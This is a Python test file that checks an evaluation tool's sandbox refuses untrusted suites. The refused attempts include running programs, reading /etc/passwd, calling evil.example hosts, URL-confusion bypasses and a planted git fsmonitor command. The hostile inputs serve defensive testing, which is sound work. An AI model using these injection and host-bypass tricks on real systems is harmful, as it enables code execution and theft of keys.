"""A suite from a stranger: what it tries, and that it is refused before anything happens."""

from __future__ import annotations

from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Any

import pytest

from evenhand.api import load_suite, run_suite
from evenhand.errors import ProviderError, StoreError, SuiteError
from evenhand.io.hosts import HostGuard, allowed_host
from support.strangers import CHECK, SCRIPT, case_with, refusals, run, written

REFUSED: dict[str, tuple[dict[str, Any], str]] = {
    "a program as provider": ({"providers": [{"type": "exec", "command": ["id"]}]}, "may not use 'exec'"),
    "a function as provider": (
        {"providers": [{"type": "python", "target": "os:getcwd"}]},
        "may not use 'python'",
    ),
    "a function outside": (
        {"providers": [{"type": "python", "target": "file://../app.py:f"}]},
        "code must lie inside",
    ),
    "a library that calls anywhere": (
        {"providers": [{"type": "litellm", "model": "a/b", "base_url": "http://evil.example"}]},
        "may not use 'litellm'",
    ),
    "a program as judge": (
        {"grader": {"provider": {"type": "exec", "command": ["id"]}}},
        "grader.provider: a suite in a sandbox may not use 'exec'",
    ),
    "a program as checker": (
        {"tests": case_with({"type": "exec", "command": ["id"]})},
        "'exec' runs a program",
    ),
    "a program as checker in a group": (
        {"tests": case_with({"type": "any-of", "assert": [{"type": "exec", "command": ["id"]}]})},
        "'exec' runs a program",
    ),
    "inline Python": (
        {"tests": case_with({"type": "python", "value": "True"})},
        "Python runs without limits",
    ),
    "Python in this process": (
        {"tests": case_with({"type": "python", "value": "True", "isolate": False})},
        "Python runs without limits",
    ),
    "a Python transform": (
        {"tests": case_with(CHECK, transform={"type": "python", "value": "output"})},
        "Python runs without limits",
    ),
    "a Python transform of a provider": (
        {"providers": [{"type": "echo", "transform": {"type": "python", "value": "output"}}]},
        "Python runs without limits",
    ),
    "a script in a file": ({"tests": case_with(SCRIPT)}, "allow it with `--allow-scripts`"),
    "a script in TypeScript": (
        {"tests": case_with({"type": "javascript", "value": "file://check.ts"})},
        "allow it with `--allow-scripts`",
    ),
    "inline code in Node.js": (
        {"tests": case_with({"type": "javascript", "value": "true", "engine": "node"})},
        "allow it with `--allow-scripts`",
    ),
    "a file as transform": ({"tests": case_with(CHECK, transform="file://check.js")}, "`--allow-scripts`"),
    "a generator": ({"tests": [{"generator": {"command": ["id"]}}]}, "generators run code"),
    "a server": ({"servers": [{"id": "s", "command": ["id"], "ready": {"wait_ms": 1}}]}, "server"),
    "a file by its path": (
        {"tests": case_with(CHECK, vars={"x": {"$file": "/etc/passwd"}})},
        "refuses to read outside",
    ),
    "a file above": (
        {"prompts": [{"id": "p", "template": "file://../../secret.txt"}]},
        "refuses to read outside",
    ),
    "a link that leads outside": (
        {"prompts": [{"id": "p", "template": "file://link.txt"}]},
        "refuses to read outside",
    ),
    "a suite above": ({"extends": "../base.yaml"}, "refuses to read outside"),
    "a part above": ({"imports": ["../base.yaml"]}, "refuses to read outside"),
    "another host": (
        {"providers": [{"type": "http", "url": "https://evil.example/x"}]},
        "allow it with `--allow-host evil.example`",
    ),
    "another port": (
        {"providers": [{"type": "http", "url": "http://127.0.0.1:8000/x"}]},
        "allow it with `--allow-host 127.0.0.1:8000`",
    ),
    "another address of a vendor": (
        {
            "providers": [
                {"type": "openai", "model": "m", "base_url": "https://api.openai.com.evil.example/v1"}
            ]
        },
        "does not call 'api.openai.com.evil.example'",
    ),
    "a vendor without encryption": (
        {"providers": [{"type": "openai", "model": "m", "base_url": "http://api.openai.com/v1"}]},
        "does not call 'api.openai.com'",
    ),
    "a name in front of the host": (
        {
            "providers": [
                {"type": "openai", "model": "m", "base_url": "https://api.openai.com@evil.example/v1"}
            ]
        },
        "no plain address",
    ),
    "another variable as key": (
        {"providers": [{"type": "openai", "model": "m", "api_key_env": "HOME"}]},
        "allow it with `--allow-env HOME`",
    ),
    "a storage of answers": (
        {"cache": {"backend": "layered", "http": {"url": "https://evil.example", "token_env": "HOME"}}},
        "cache.http: a suite in a sandbox may not send answers",
    ),
    "a bucket of answers": (
        {"cache": {"backend": "layered", "s3": {"bucket": "b", "endpoint": "https://evil.example"}}},
        "cache.s3: a suite in a sandbox may not send answers",
    ),
    "a variable in settings": (
        {"providers": [{"type": "http", "url": "https://evil.example/${env:HOME}"}]},
        "'HOME' is not set",
    ),
}


@pytest.mark.parametrize("what", REFUSED)
def test_what_a_stranger_tries_is_refused_at_load(what: str, tmp_path: Path) -> None:
    keys, message = REFUSED[what]
    folder = tmp_path / "suite"
    folder.mkdir()
    (tmp_path / "base.yaml").write_text("project: x\n")
    (tmp_path / "app.py").write_text("def f(request): return 1\n")
    (folder / "check.js").write_text("module.exports = () => true;")
    (folder / "check.ts").write_text("export default () => true;")
    (folder / "link.txt").symlink_to("/etc/passwd")
    assert message in refusals(folder, **keys)


def test_all_refusals_come_at_once(tmp_path: Path) -> None:
    text = refusals(
        tmp_path,
        providers=[{"type": "exec", "command": ["id"]}, {"type": "http", "url": "https://evil.example"}],
        tests=case_with({"type": "python", "value": "True"}, {"type": "exec", "command": ["id"]}),
    )
    assert len(text.splitlines()) == 4


def test_embedded_code_and_expressions_run(tmp_path: Path) -> None:
    tests = case_with(
        {"type": "javascript", "value": "output === 'HELLO'"},
        {"type": "jinja", "value": "output == 'HELLO'"},
        transform="output.toUpperCase()",
    )
    assert [case.status for case in run(written(tmp_path, tests=tests))] == ["pass"]


def test_templates_see_no_variable_that_nobody_allowed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("STRANGERS_PRIZE", "hello from home")
    prompts = [{"id": "p", "template": "{{ env.STRANGERS_PRIZE | default('hello') }}"}]
    folder = written(tmp_path, prompts=prompts, env=["STRANGERS_PRIZE"])
    assert [case.output for case in run(folder)] == ["hello"]
    assert [case.output for case in run(folder, visible_variables=["STRANGERS_PRIZE"])] == ["hello from home"]


def test_git_of_a_stranger_is_not_asked(tmp_path: Path) -> None:
    folder = written(tmp_path)
    (folder / ".git").mkdir()
    (folder / ".git" / "config").write_text('[core]\n\tfsmonitor = "touch fsmonitor-ran; false"\n')
    finished = run_suite(load_suite(folder, confined=True), save=False)
    assert finished.run.git is None
    assert not (folder / "fsmonitor-ran").exists()


@pytest.mark.parametrize("planted", [".evenhand", ".evenhand/runs.sqlite", ".evenhand/cache/answers.sqlite"])
def test_state_that_came_with_a_suite_leads_nowhere_else(planted: str, tmp_path: Path) -> None:
    folder = written(tmp_path / "suite")
    (tmp_path / "home").mkdir()
    (folder / planted).parent.mkdir(parents=True, exist_ok=True)
    (folder / planted).symlink_to(tmp_path / "home" if planted == ".evenhand" else tmp_path / "home" / "new")
    with pytest.raises(StoreError, match="may not lead its state elsewhere"):
        run_suite(load_suite(folder, confined=True))
    assert list((tmp_path / "home").iterdir()) == []


class Recording(BaseHTTPRequestHandler):
    """Keeps what it is asked; sends whoever asks for `/away` elsewhere."""

    seen: list[str]

    def do_POST(self) -> None:
        self.seen.append(f"{self.path} {self.headers.get('Authorization')}")
        self.rfile.read(int(self.headers.get("Content-Length", 0)))
        away = self.path.startswith("/away")
        self.send_response(302 if away else 200)
        if away:
            self.send_header("Location", "http://localhost:1/stolen")
        self.send_header("Content-Length", "5")
        self.end_headers()
        self.wfile.write(b"hello")

    def log_message(self, format: str, *args: Any) -> None:
        """Nothing is printed."""


@pytest.fixture
def server() -> Iterator[tuple[int, list[str]]]:
    seen: list[str] = []
    handler = type("Handler", (Recording,), {"seen": seen})
    with ThreadingHTTPServer(("127.0.0.1", 0), handler) as listening:
        thread = Thread(target=listening.serve_forever, daemon=True)
        thread.start()
        yield listening.server_address[1], seen
        listening.shutdown()
        thread.join(10)


def test_address_that_a_template_makes_is_checked_before_anything_is_sent(
    server: tuple[int, list[str]], tmp_path: Path
) -> None:
    port, seen = server
    provider = {
        "type": "http",
        "url": "http://{{ host }}:" + f"{port}/ask",
        "headers": {"Authorization": "secret"},
    }
    tests = [
        {"id": "in", "vars": {"host": "127.0.0.1"}, "assert": [CHECK]},
        {"id": "out", "vars": {"host": "localhost"}, "assert": [CHECK]},
    ]
    folder = written(tmp_path, providers=[provider], tests=tests)
    found = {case.cell.test_id: case for case in run(folder, allow_hosts=[f"127.0.0.1:{port}"])}
    assert found["in"].status == "pass"
    assert found["out"].status == "error"
    assert f"`--allow-host localhost:{port}`" in (found["out"].error or "")
    assert seen == ["/ask secret"]


def test_redirects_are_not_followed(server: tuple[int, list[str]], tmp_path: Path) -> None:
    port, seen = server
    provider = {"type": "http", "url": f"http://127.0.0.1:{port}/away"}
    (case,) = run(written(tmp_path, providers=[provider]), allow_hosts=[f"127.0.0.1:{port}"])
    assert case.status == "error"
    assert "moved to" in (case.error or "")
    assert len(seen) == 1


def test_key_goes_to_an_allowed_host_only(
    server: tuple[int, list[str]], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    port, seen = server
    monkeypatch.setenv("OPENAI_API_KEY", "sk-home")
    monkeypatch.setenv("HTTP_PROXY", "")
    provider = {"type": "openai", "model": "m", "base_url": f"http://127.0.0.1:{port}/v1"}
    folder = written(tmp_path, providers=[provider])
    with pytest.raises(SuiteError, match=f"--allow-host 127.0.0.1:{port}"):
        load_suite(folder, confined=True)
    assert seen == []
    run(folder, allow_hosts=[f"127.0.0.1:{port}"])
    assert seen == ["/v1/chat/completions Bearer sk-home"]


ADDRESSES = [
    ("https://api.vendor.example/v1", True),
    ("https://API.Vendor.Example./v1", True),
    ("https://api.vendor.example:443/v1", True),
    ("https://api.vendor.example:8443/v1", False),
    ("http://api.vendor.example/v1", False),
    ("https://vendor.example/v1", False),
    ("https://x.api.vendor.example/v1", False),
    ("https://friend.example/", True),
    ("http://friend.example/", True),
    ("http://friend.example:8080/", False),
    ("http://other.example:8080/", True),
    ("http://other.example/", False),
    ("http://[::1]:9/", True),
    ("https://user:x@friend.example/", False),
    ("https://friend.example@evil.example/", False),
    ("https://evil.example\\@friend.example/", False),
    ("https://friend.example\t.evil.example/", False),
    ("https://evil.example#@friend.example/", False),
    ("https://evil.example?@friend.example/", False),
    ("ftp://friend.example/", False),
    ("file:///etc/passwd", False),
    ("//friend.example/", False),
    ("", False),
]


@pytest.mark.parametrize(("url", "allowed"), ADDRESSES)
def test_hosts_are_compared_exactly_with_their_ports(url: str, allowed: bool) -> None:
    guard = HostGuard(("https://api.vendor.example/v1",), ("friend.example", "Other.Example:8080", "[::1]:9"))
    assert (guard.refusal(url) is None) is allowed
    if not allowed:
        with pytest.raises(ProviderError):
            guard.check(url)


def test_what_is_no_host_is_reported(tmp_path: Path) -> None:
    assert allowed_host("https://friend.example/x") is None
    assert allowed_host("friend.example:99999") is None
    assert "`--allow-host` takes `name` or `name:port`" in refusals(tmp_path, {"allow_hosts": ["https://x"]})
